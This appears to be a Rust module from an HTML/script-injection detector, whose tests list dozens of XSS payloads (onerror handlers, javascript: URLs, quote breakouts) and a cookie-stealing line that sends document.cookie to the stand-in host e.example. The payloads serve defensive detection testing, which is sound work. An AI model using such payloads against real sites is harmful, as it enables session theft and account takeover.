//! HTML and the script in it: whether a value runs in the page that shows it.
//!
//! A value does so as a tag that loads or runs something, as an attribute that it adds to a tag around it,
//! or as script that goes on behind the string it stands in. Tags are read as forgivingly as browsers read
//! them: with `/` or control bytes for spaces, without quotes, without an end.

mod script;
mod tag;

use self::tag::Tags;
use super::fragment::strongest;
use super::{Differences, Finding, Question, Strength};

/// How sure it is that a value runs in a page.
pub(crate) fn markup(value: &[u8], question: Question<'_>) -> Option<Finding> {
    let differences = question.differences(value);
    let found = strongest(
        value,
        |part| differences.touch(part),
        |_, line| judge(line),
        |sentence| script::address(sentence).max(script::breakout(sentence)),
    );
    match found {
        Some(Finding { strength: Strength::Certain, .. }) => found,
        _ => found.max(spread_tag(value, &differences)),
    }
}

/// The first tag that goes on in another line and certainly runs something: lines by themselves hold no whole one.
fn spread_tag(value: &[u8], differences: &Differences) -> Option<Finding> {
    let mut tags = Tags::new(value);
    let mut line_end = 0;
    for at in memchr::memchr_iter(b'<', value) {
        if line_end <= at {
            let ahead = value.get(at..).and_then(|rest| memchr::memchr2(b'\n', b'\r', rest));
            line_end = at + ahead?;
        }
        let may_be_new = || differences.touch(at..value.len());
        if is_closed(value.get(at..line_end).unwrap_or_default()) || !may_be_new() {
            continue;
        }
        let (strength, end) = tags.judge(at + 1);
        if end > line_end && strength == Some(Strength::Certain) {
            return Finding::at(strength, at);
        }
    }
    None
}

/// Whether a tag ends in its line: no quote opens before the first `>`.
fn is_closed(line: &[u8]) -> bool {
    let tag = memchr::memchr(b'>', line).and_then(|end| line.get(..end));
    tag.is_some_and(|tag| memchr::memchr3(b'"', b'\'', b'`', tag).is_none())
}

fn judge(value: &[u8]) -> Option<Finding> {
    let whole = script::address(value).max(script::breakout(value)).max(tag::added_attribute(value));
    let mut found = Finding::at(whole, 0);
    let mut tags = Tags::new(value);
    for at in memchr::memchr_iter(b'<', value) {
        if found.is_some_and(|found| found.strength == Strength::Certain) {
            break;
        }
        found = found.max(Finding::at(tags.judge(at + 1).0, at));
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strength(value: &[u8]) -> Option<Strength> {
        markup(value, Question::ANY).map(|found| found.strength)
    }

    #[test]
    fn what_runs() {
        for value in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<SCRIPT src=//e.example>",
            "\" onmouseover=alert(1) x=\"",
            "' autofocus onfocus='alert(1)",
            "<body onpageshow=alert(1)>",
            "javascript:alert(1)",
            " java\tscript:alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=java&#115;cript:alert(1)>",
            "<iframe srcdoc=\"<b>\">",
            "<object data=x>",
            "<embed src=//e.example>",
            "<base href=//e.example/>",
            "<meta http-equiv=refresh content=0;url=//e.example>",
            "';alert(1)//",
            "\"-alert(1)-\"",
            "\\';alert(1)//",
            "'+alert(1)+'",
            "</script><script>alert(1)",
            "<img/src=x/onerror=alert(1)//",
            "<details open ontoggle=alert`1`>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<x onclick=alert(1)>",
            "data:text/html,<script>alert(1)</script>",
            "<form><button formaction=javascript:alert(1)>",
            "\"><img src=x onerror=alert(1)>",
            "<math><a xlink:href=javascript:alert(1)>",
            "<input onfocus=alert(1) autofocus",
            "');alert(document.cookie)//",
            "<svg><script>alert(1)",
            "vbscript:msgbox(1)",
            "'-prompt(1)-'",
            "<a\x0conclick=alert(1)>",
            "\" style=x onblur=new Function`a${1}`",
            "' onsecuritypolicyviolation=(alert)(1) x='",
            "\";fetch('//e.example')//",
        ] {
            assert!(strength(value.as_bytes()) == Some(Strength::Certain), "{value}");
        }
    }

    #[test]
    fn what_does_not() {
        for value in [
            "a < b and c > d",
            "I <3 you",
            "x <- 5",
            "<b>bold</b> and <a href=\"https://example.com\">link</a>",
            "javascript: a language",
            "javascript:void(0)",
            "javascript:;",
            "based on load = 5",
            "one=1",
            "online=true",
            "the on/off switch",
            "O'Reilly; alert the team",
            "it's (really) an alert",
            "<img src=\"https://example.com/a.png\" alt=\"a\">",
            "<p class=\"x\">text</p>",
            "<br/>",
            "",
            "user@example.com <user@example.com>",
            "a=b&c=d",
            "x > 5 && y < 3",
            "conclusion=done",
            "'quoted' - text",
        ] {
            assert!(strength(value.as_bytes()) < Some(Strength::Likely), "{value}");
        }
    }

    #[test]
    fn a_tag_may_go_on_in_other_lines() {
        for break_ in ["\n", "\r\n"] {
            let tag =
                "hello there,\n<img src=x alt='a > b' title=\">\"\nonerror='alert(1)'\n>\nand more of it"
                    .replace('\n', break_);
            assert_eq!(strength(tag.as_bytes()), Some(Strength::Certain));
        }
        let text = "it is\na < b\nand the price\nonload = 5 euros\n<b>bold\ntext</b>";
        assert!(strength(text.as_bytes()) < Some(Strength::Certain));
        assert!(strength("<a\n".repeat(300_000).as_bytes()) < Some(Strength::Certain));
    }

    #[test]
    fn no_length_and_no_tag_around_hides_an_attribute() {
        let long = "winter boots ".repeat(1000);
        let mut ran = 0;
        for handler in ["onerror=alert(1)", "onerror='alert(1)'", "srcdoc=x", "style=behavior:url(x)"] {
            for tag in [
                format!("<img alt=\"{long}\" {handler}>"),
                format!("<img {long}{handler}>"),
                format!("<img alt={} {handler}>", "x".repeat(9000)),
                format!("<a title=\"<b {handler}>"),
                format!("<a x=<b y=<c z=<img {handler}>"),
                format!("{}b {handler}>", "<a style=".repeat(2000)),
            ] {
                assert_eq!(strength(tag.as_bytes()), Some(Strength::Certain), "{handler} in {}", tag.len());
                ran += 1;
            }
        }
        assert_eq!(ran, 24);
        // What a tag said before it goes on as an earlier one counts.
        let refresh = b"<meta a=\"<meta http-equiv=refresh content=1 \" b=1 c=2>";
        assert_eq!(strength(refresh), Some(Strength::Certain));
        // What only some elements take means nothing in others, whichever was read first.
        assert_eq!(strength(b"<p x=<object data=/a>"), Some(Strength::Certain));
        assert!(strength(b"<p x=<q data=/a>") < Some(Strength::Certain));
    }

    #[test]
    fn pages_are_judged_by_their_lines() {
        let page = "<html>\n<body>\n<h1>Welcome to the shop</h1>\n<script>\nconst save = (cart) => { cart.save(); };\n</script>\n</body></html>";
        assert!(strength(page.as_bytes()) < Some(Strength::Certain));
        let theft = format!("{page}\n<script>new Image().src='//e.example/'+document.cookie</script>");
        assert_eq!(strength(theft.as_bytes()), Some(Strength::Certain));
    }
}
